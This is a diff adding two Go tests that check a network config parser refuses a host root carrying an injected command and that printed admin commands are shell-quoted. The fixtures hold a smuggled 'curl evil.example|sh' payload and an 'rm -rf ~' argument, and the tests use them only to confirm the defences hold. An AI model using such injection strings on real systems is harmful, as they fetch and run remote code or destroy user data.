@@ -61,3 +61,29 @@ func TestNoRelayer(t *testing.T) {
 		t.Fatalf("got %v", err)
 	}
 }
+
+// The admin's host root is printed in a command to paste into a shell: one
+// that would run something else is refused by the file's checks.
+func TestAdminHostRootInjectionIsRefused(t *testing.T) {
+	file := strings.Replace(twoHosts, "root: /srv/ops}", `root: "/srv/ops;curl${IFS}-s${IFS}evil.example|sh;#"}`, 1)
+	_, err := network.Parse([]byte(file))
+	if err == nil || !strings.Contains(err.Error(), `hosts[1] (ops): root "/srv/ops;curl${IFS}-s${IFS}evil.example|sh;#" has characters other than`) {
+		t.Fatalf("got %v", err)
+	}
+}
+
+// Every word of the printed command is shell-quoted when it needs it, so
+// what the admin pastes is the one command link means.
+func TestAdminCommandIsShellQuoted(t *testing.T) {
+	n, err := network.Parse([]byte(twoHosts))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	l := &linker{Options: Options{Network: n, Out: &out}, n: n, host: n.Host("relay")}
+	_ = l.adminTx(n.Chain("main-1"), func() (bool, error) { return false, nil }, "statuscollect", "bind-client", "sub-1", "it's; rm -rf ~", "")
+	want := `/srv/ops/bin/mainchaind tx statuscollect bind-client sub-1 'it'\''s; rm -rf ~' '' --from admin --home /srv/ops/clients/main-1 --keyring-backend test`
+	if !strings.Contains(out.String(), want) {
+		t.Fatalf("printed:\n%s\nwant it to contain:\n%s", out.String(), want)
+	}
+}
